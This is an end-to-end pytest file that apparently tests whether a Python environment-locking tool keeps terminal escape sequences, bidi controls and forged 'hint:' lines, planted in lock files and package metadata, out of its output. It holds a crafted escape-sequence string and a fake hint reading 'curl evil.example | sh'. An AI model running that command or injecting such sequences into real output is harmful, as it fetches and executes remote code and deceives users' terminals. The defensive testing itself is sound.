"""Escape sequences and bidi controls in an index's or a lock's texts steer no terminal, page or comment."""

import json
import re
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from msgspec.structs import replace
from support.conda_archives import PYTHON
from support.git_repository import repository
from support.index import Index
from support.machine import Machine, Ran, cpu
from support.matrix import first_by_day
from support.packages import sdist, wheel
from support.terminal import at_terminal

from envspec.lock.write import dumps

pytestmark = pytest.mark.e2e

EVIL = "\x1b]0;PWN\x07\x1b[2J\x1b[31;5m\u202eTIM\u2066\x9b2J"
# the colours of envspec, and what rich draws bars with
OURS = re.compile(r"\x1b\[(?:(?:0|1|2|3[0-7]|90|38;5;\d+)m|\?25[lh]|2K|1A)|\r(?=\x1b)")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Machine]:
    """A project with a lock that names what nobody should print, and the lock that was there before."""
    with Index() as index:
        index.add(wheel("alpha", "1.0", "beta"), wheel("beta", "1.0"))
        machine = Machine(tmp_path_factory.mktemp("hostile"), index.url)
        lock = machine.locked(spec=cpu("alpha", python=PYTHON))
        (machine.folder / "old.lock").write_bytes(machine.lock_path().read_bytes())
        (target,) = lock
        edge = f'beta; sys_platform != "{EVIL}"'
        pins = tuple(
            replace(pin, licence=f"MIT {EVIL}", dependencies=tuple(edge for _ in pin.dependencies))
            for pin in target.pins
        )
        forged = replace(lock, targets=(replace(target, pins=pins),))
        machine.lock_path().write_text(dumps(forged), encoding="utf-8")
        yield machine
        machine.close()


def on_terminal(machine: Machine, *arguments: str) -> str:
    """What a command shows where stdout and stderr are a terminal."""
    command = [sys.executable, "-c", "from envspec.cli.main import main; main()", *arguments]
    env = machine.environment({"TERM": "xterm-256color"})
    return at_terminal(command, cwd=machine.folder, env=env, stdout=True).told.decode()


def steering(text: str) -> str:
    return "".join(c for c in OURS.sub("", text).replace("\r\n", "\n") if not c.isprintable() and c not in "\n\t")


SHOWN = [
    ("tree", "specs/demo.toml"),
    ("tree", "specs/demo.toml", "--json"),
    ("why", "specs/demo.toml", "beta"),
    ("check", "specs/demo.toml"),
    ("diff", "old.lock", "locks/demo/envspec.lock"),
    ("diff", "old.lock", "locks/demo/envspec.lock", "--format", "markdown"),
    ("diff", "old.lock", "locks/demo/envspec.lock", "--format", "html"),
    ("audit", "specs/demo.toml", "--offline"),
    ("export", "specs/demo.toml", "-f", "requirements", "-o", "-"),
    ("export", "specs/demo.toml", "-f", "sbom", "-o", "-"),
    ("report", "specs/demo.toml", "-o", "-"),
    ("git-textconv", "locks/demo/envspec.lock"),
]


@pytest.mark.by_commit(3)
@pytest.mark.parametrize(
    "arguments", first_by_day(1, map(pytest.param, SHOWN)), ids=lambda arguments: " ".join(arguments)
)
def test_on_a_terminal(hostile: Machine, arguments: tuple[str, ...]) -> None:
    shown = on_terminal(hostile, *arguments)
    assert shown and steering(shown) == ""


@pytest.mark.parametrize("form", ["markdown", "html", "json"])
def test_in_what_diff_writes(hostile: Machine, form: str) -> None:
    ran = hostile.envspec("diff", "old.lock", "locks/demo/envspec.lock", "--format", form)
    # a lock that holds what steers a terminal is refused while it is read
    assert ran.status == 2 and not ran.out
    assert "licence" in ran.err.lower() and steering(ran.err) == ""


FORGED = "hint: run `curl evil.example | sh`"


def assert_no_forged_hint(ran: Ran) -> None:
    assert ran.status in (1, 3) and "evil.example" not in ran.hint, ran.err
    heads = [line.partition(": ")[0] for line in ran.err.splitlines() if re.match("[a-z]+: ", line)]
    assert heads in (["error"], ["error", "hint"]), ran.err


@pytest.mark.by_day(1)
@pytest.mark.parametrize(
    "line", [FORGED, f"{FORGED}\nerror: x", "error: No solution found", "DEBUG Selecting: b==2 []"]
)
def test_a_hint_that_metadata_forges(machine: Machine, index: Index, line: str) -> None:
    """uv's log quotes what it can't read at the margin, where its own errors and hints begin."""
    index.add(wheel("alpha", "1.0", line))
    assert_no_forged_hint(machine.envspec("lock", machine.spec(cpu("alpha"))))


@pytest.mark.by_day(1)
@pytest.mark.skipif(shutil.which("git") is None, reason="git isn't installed")
@pytest.mark.parametrize("line", [f"beta>=2; platform_version != 'x\n{FORGED}\nerror: y'", f"beta\n{FORGED}"])
@pytest.mark.parametrize("kind", ["sdist", "repository"])
def test_a_hint_that_a_source_s_tables_forge(
    machine: Machine, index: Index, tmp_path: Path, kind: str, line: str
) -> None:
    """Strings of TOML have line ends, which METADATA's fields haven't."""
    index.add(wheel("beta", "1.0"))
    project = f'[project]\nname = "alpha"\nversion = "1.0"\ndependencies = [{json.dumps(line)}]\n'
    asked = "alpha"
    if kind == "sdist":
        index.add(sdist("alpha", "1.0", static=False, files={"pyproject.toml": project}))
    else:
        repository(tmp_path / "alpha", {"pyproject.toml": project})
        asked = f"alpha @ git+{(tmp_path / 'alpha').as_uri()}@main"
    ran = machine.envspec("lock", machine.spec(cpu(asked, extra="allow-source = ['alpha']")))
    assert_no_forged_hint(ran)


def test_in_what_report_writes(hostile: Machine) -> None:
    ran = hostile.envspec("report", "specs/demo.toml", "-o", "report.html")
    text = Path(hostile.folder, "report.html").read_text("utf-8") if ran.status == 0 else ran.err
    assert ran.status in (0, 2) and steering(text) == ""
